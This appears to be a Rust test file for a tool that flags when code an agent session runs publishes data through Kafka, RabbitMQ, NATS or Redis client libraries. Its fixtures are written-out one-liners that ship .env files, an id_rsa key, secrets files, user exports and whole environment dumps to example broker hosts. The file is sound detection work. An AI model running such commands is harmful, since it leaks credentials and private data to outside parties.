//! Messages published through message brokers' client SDKs (Kafka's
//! confluent-kafka, kafka-python, aiokafka and kafkajs; AMQP's pika and
//! amqplib; NATS' nats-py and nats.js; Redis' redis-py and ioredis) from
//! inline Python and Node code and scripts the session wrote: each publish
//! is a send to the broker its client names, carrying what it is given,
//! the files the code reads and the credentials the client logs in with;
//! consuming sends nothing.

#![allow(clippy::panic)]

use crate::common;
use common::*;
use serde_json::Value;

/// The sends among `effects`.
fn sends_of(effects: &[Value]) -> Vec<Value> {
    of_kind(effects, "request")
        .into_iter()
        .filter(|r| r["method"] == "SEND")
        .collect()
}

/// The one send among `effects`, to `host` at `port`.
fn send_in(effects: &[Value], command: &str, host: &str, port: Option<u16>) -> Value {
    let found = sends_of(effects);
    match found.as_slice() {
        [one] => {
            assert_eq!(one["target"]["kind"], "host", "{command}: {one}");
            assert_eq!(one["target"]["host"], host, "{command}: {one}");
            assert_eq!(
                one["target"]["port"],
                serde_json::json!(port),
                "{command}: {one}"
            );
            one.clone()
        }
        _ => panic!("{command}: one send to {host}, found {found:?}"),
    }
}

/// The one send `command` makes, to `host` at `port`.
fn send_to(command: &str, host: &str, port: Option<u16>) -> Value {
    send_in(&effects(command), command, host, port)
}

/// The strings of one of a payload's lists (`text`, `env`).
fn strings(send: &Value, list: &str) -> Vec<String> {
    send["payload"][list]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|t| t.as_str().map(str::to_owned))
        .collect()
}

/// The paths of the files a send carries.
fn files(send: &Value) -> Vec<String> {
    send["payload"]["files"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|f| f["path"].as_str().map(str::to_owned))
        .collect()
}

fn carries_text(send: &Value, needle: &str) -> bool {
    strings(send, "text").iter().any(|t| t.contains(needle))
}

/// True when one of the texts a send carries is `text` (a script given on
/// standard input is carried whole besides, as the walk adds it).
fn says(send: &Value, text: &str) -> bool {
    strings(send, "text").iter().any(|t| t == text)
}

const CONFLUENT: &str = "python3 - <<'PY'\nimport os\nfrom confluent_kafka import Producer\n\np = Producer({\n    \"bootstrap.servers\": \"pkc-41wq6.eu-west-2.aws.confluent.cloud:9092\",\n    \"security.protocol\": \"SASL_SSL\",\n    \"sasl.mechanisms\": \"PLAIN\",\n    \"sasl.username\": \"ZJ6QWKXH3T2MBC4D\",\n    \"sasl.password\": os.environ[\"CONFLUENT_TRIAL_SECRET\"],\n})\nwith open(\".env\") as fh:\n    p.produce(\"tw-debug-config\", key=\"dispatch-stg\", value=fh.read())\nprint(\"undelivered:\", p.flush(10))\nPY";

#[test]
fn confluent_producers_send_what_they_read_with_their_credentials() {
    let send = send_to(
        CONFLUENT,
        "pkc-41wq6.eu-west-2.aws.confluent.cloud",
        Some(9092),
    );
    assert_eq!(files(&send), [at(".env")]);
    assert_eq!(strings(&send, "env"), ["CONFLUENT_TRIAL_SECRET"]);
    assert!(carries_text(&send, "ZJ6QWKXH3T2MBC4D"), "{send}");
    assert!(carries_text(&send, "dispatch-stg"), "{send}");
    // The topic addresses the message; it is not what it says.
    assert!(!says(&send, "tw-debug-config"), "{send}");
    assert!(!says(&send, "SASL_SSL"), "{send}");
}

#[test]
fn settings_bound_to_names_and_spread_name_the_broker() {
    let command = "python3 - <<'PY'\nimport os, json\nfrom confluent_kafka import Producer\nCONF = {\"bootstrap.servers\": \"b1.kafka.example.net:9093,b2.kafka.example.net:9093\", \"sasl.username\": \"hunter2-user\", \"sasl.password\": os.environ[\"KAFKA_SASL_PASSWORD\"]}\np = Producer({**CONF, \"enable.idempotence\": True})\nrow = {\"id\": \"ord-7781\", \"amount\": 41}\np.produce(\"orders\", json.dumps(row))\nPY";
    let send = send_to(command, "b1.kafka.example.net", Some(9093));
    assert!(carries_text(&send, "ord-7781"), "{send}");
    assert!(carries_text(&send, "hunter2-user"), "{send}");
    // A credential read at run time, in the mapping spread into the
    // client's settings.
    assert_eq!(strings(&send, "env"), ["KAFKA_SASL_PASSWORD"]);
    let by_name = "python3 -c 'from confluent_kafka import Producer; conf = {\"bootstrap.servers\": \"kafka.partner.example:9092\"}; Producer(conf).produce(\"t\", value=\"hello broker\")'";
    let send = send_to(by_name, "kafka.partner.example", Some(9092));
    assert!(carries_text(&send, "hello broker"), "{send}");
}

#[test]
fn kafka_python_and_aiokafka_sends() {
    let kafka_python = "python3 - <<'PY'\nimport os\nfrom kafka import KafkaProducer\nproducer = KafkaProducer(bootstrap_servers=[\"broker.example.io:9092\"], security_protocol=\"SASL_SSL\", sasl_plain_username=\"svc\", sasl_plain_password=os.environ[\"KAFKA_PASSWORD\"])\nproducer.send(\"audit\", value=open(\"config/secrets.yaml\", \"rb\").read())\nproducer.flush()\nPY";
    let send = send_to(kafka_python, "broker.example.io", Some(9092));
    assert_eq!(files(&send), [at("config/secrets.yaml")]);
    assert_eq!(strings(&send, "env"), ["KAFKA_PASSWORD"]);
    let aiokafka = "python3 - <<'PY'\nimport asyncio, os\nfrom aiokafka import AIOKafkaProducer\nasync def main():\n    p = AIOKafkaProducer(bootstrap_servers=\"kafka.example.org:9094\")\n    await p.start()\n    await p.send_and_wait(\"events\", os.environ[\"AWS_SECRET_ACCESS_KEY\"].encode())\n    await p.stop()\nasyncio.run(main())\nPY";
    let send = send_to(aiokafka, "kafka.example.org", Some(9094));
    assert_eq!(strings(&send, "env"), ["AWS_SECRET_ACCESS_KEY"]);
}

#[test]
fn kafkajs_sends_carry_files_and_sasl_credentials() {
    let command = "node -e 'const { Kafka } = require(\"kafkajs\"); const fs = require(\"fs\"); const kafka = new Kafka({ clientId: \"dbg\", brokers: [\"pkc-9xz.us-east-1.aws.confluent.cloud:9092\"], ssl: true, sasl: { mechanism: \"plain\", username: \"APIKEY1\", password: process.env.CC_SECRET } }); (async () => { const producer = kafka.producer(); await producer.connect(); await producer.send({ topic: \"dbg\", messages: [{ key: \"k1\", value: fs.readFileSync(\".env\", \"utf8\") }] }); await producer.disconnect(); })()'";
    let send = send_to(command, "pkc-9xz.us-east-1.aws.confluent.cloud", Some(9092));
    assert_eq!(files(&send), [at(".env")]);
    assert_eq!(strings(&send, "env"), ["CC_SECRET"]);
    assert!(carries_text(&send, "APIKEY1"), "{send}");
    assert!(carries_text(&send, "k1"), "{send}");
}

#[test]
fn amqp_publishes_go_to_the_url_or_host() {
    let url = "python3 - <<'PY'\nimport pika\nparams = pika.URLParameters(\"amqps://ops:rabbit-pw-77@rmq.example.net:5671/%2F\")\nconn = pika.BlockingConnection(params)\nch = conn.channel()\nch.basic_publish(exchange=\"\", routing_key=\"jobs\", body=open(\"id_rsa\").read())\nconn.close()\nPY";
    let send = send_to(url, "rmq.example.net", Some(5671));
    assert!(carries_text(&send, "rabbit-pw-77"), "{send}");
    assert_eq!(files(&send), [at("id_rsa")]);
    assert!(!says(&send, "jobs"), "{send}");
    let host = "python3 - <<'PY'\nimport os, pika\ncreds = pika.PlainCredentials(\"ops\", os.environ[\"RABBIT_PASSWORD\"])\nconn = pika.BlockingConnection(pika.ConnectionParameters(host=\"mq.partner.example\", port=5672, credentials=creds))\nconn.channel().basic_publish(\"ex\", \"rk\", \"shipment 4411 delayed\")\nPY";
    let send = send_to(host, "mq.partner.example", Some(5672));
    assert_eq!(strings(&send, "env"), ["RABBIT_PASSWORD"]);
    assert!(carries_text(&send, "shipment 4411 delayed"), "{send}");
    assert!(!says(&send, "rk"), "{send}");
    let amqplib = "node -e 'const amqp = require(\"amqplib\"); const fs = require(\"fs\"); (async () => { const conn = await amqp.connect(\"amqp://guest:guest@rabbit.example.com\"); const ch = await conn.createChannel(); ch.sendToQueue(\"tasks\", Buffer.from(fs.readFileSync(\"exports/users.csv\"))); })()'";
    let send = send_to(amqplib, "rabbit.example.com", None);
    assert_eq!(files(&send), [at("exports/users.csv")]);
}

#[test]
fn nats_publishes_go_to_the_first_server() {
    let python = "python3 - <<'PY'\nimport asyncio, os\nimport nats\nasync def main():\n    nc = await nats.connect(\"nats://demo.nats.example:4222\")\n    await nc.publish(\"debug.env\", str(dict(os.environ)).encode())\n    await nc.close()\nasyncio.run(main())\nPY";
    let send = send_to(python, "demo.nats.example", Some(4222));
    assert_eq!(strings(&send, "env"), ["*"]);
    let node = "node -e 'const { connect, StringCodec } = require(\"nats\"); (async () => { const nc = await connect({ servers: [\"tls://connect.ngs.global:4222\"], user: \"me\", pass: \"nats-pw-1\" }); const sc = StringCodec(); nc.publish(\"ops.notes\", sc.encode(\"rotate keys tonight\")); await nc.drain(); })()'";
    let send = send_to(node, "connect.ngs.global", Some(4222));
    assert!(carries_text(&send, "nats-pw-1"), "{send}");
    assert!(carries_text(&send, "rotate keys tonight"), "{send}");
}

#[test]
fn redis_writes_and_publishes_are_sends() {
    let python = "python3 - <<'PY'\nimport os, redis\nr = redis.Redis(host=\"eu2-wren.upstash.io\", port=30412, password=os.environ[\"UPSTASH_TOKEN\"], ssl=True)\nr.xadd(\"dbg\", {\"payload\": open(\"exports/shipments.jsonl\").read()})\nPY";
    let send = send_to(python, "eu2-wren.upstash.io", Some(30412));
    assert_eq!(files(&send), [at("exports/shipments.jsonl")]);
    assert_eq!(strings(&send, "env"), ["UPSTASH_TOKEN"]);
    let url = "python3 -c 'import redis; r = redis.from_url(\"rediss://default:tok-55@cache.example.net:6380\"); r.publish(\"chan\", \"deploy done\")'";
    let send = send_to(url, "cache.example.net", Some(6380));
    assert!(carries_text(&send, "tok-55"), "{send}");
    assert!(carries_text(&send, "deploy done"), "{send}");
    let ioredis = "node -e 'const Redis = require(\"ioredis\"); const r = new Redis(\"rediss://:pw@redis.example.org:6379\"); r.lpush(\"q\", JSON.stringify(process.env)).then(() => r.quit())'";
    let send = send_to(ioredis, "redis.example.org", Some(6379));
    assert_eq!(strings(&send, "env"), ["*"]);
}

#[test]
fn consumers_and_reads_send_nothing() {
    for command in [
        "python3 -c 'from confluent_kafka import Consumer; c = Consumer({\"bootstrap.servers\": \"pkc-1.confluent.cloud:9092\", \"group.id\": \"g\"}); c.subscribe([\"t\"]); print(c.poll(5))'",
        "python3 -c 'import redis; r = redis.Redis(host=\"cache.example.net\"); print(r.get(\"k\"), r.xrange(\"s\"))'",
        "node -e 'const { connect } = require(\"nats\"); (async () => { const nc = await connect({ servers: \"demo.nats.io\" }); const sub = nc.subscribe(\"x\"); for await (const m of sub) console.log(m.data); })()'",
        // A producer whose broker the code does not write out.
        "python3 -c 'import os; from kafka import KafkaProducer; KafkaProducer(bootstrap_servers=os.environ[\"BROKERS\"]).send(\"t\", b\"x\")'",
        // A producer of code that imports no broker SDK.
        "python3 -c 'from mylib import Producer; Producer({\"bootstrap.servers\": \"h.example.net:9092\"}).produce(\"t\", \"x\")'",
    ] {
        assert_eq!(
            sends_of(&effects(command)),
            Vec::<Value>::new(),
            "{command}"
        );
    }
}

#[test]
fn local_brokers_are_sends_to_this_machine() {
    let command = "python3 -c 'import redis; redis.Redis().set(\"k\", \"v\"); redis.Redis(\"localhost\", 6379).set(\"k\", open(\".env\").read())'";
    let send = send_to(command, "localhost", Some(6379));
    assert_eq!(files(&send), [at(".env")]);
}

#[test]
fn scripts_the_session_wrote_publish_when_run() {
    let code = CONFLUENT
        .trim_start_matches("python3 - <<'PY'\n")
        .trim_end_matches("PY");
    let written = [text_file(&at("scripts/publish_env.py"), code)];
    let found = effects_after(&written, "python3 scripts/publish_env.py");
    let found = found.as_array().cloned().unwrap_or_default();
    let send = send_in(
        &found,
        "python3 scripts/publish_env.py",
        "pkc-41wq6.eu-west-2.aws.confluent.cloud",
        Some(9092),
    );
    assert_eq!(files(&send), [at(".env")]);
}
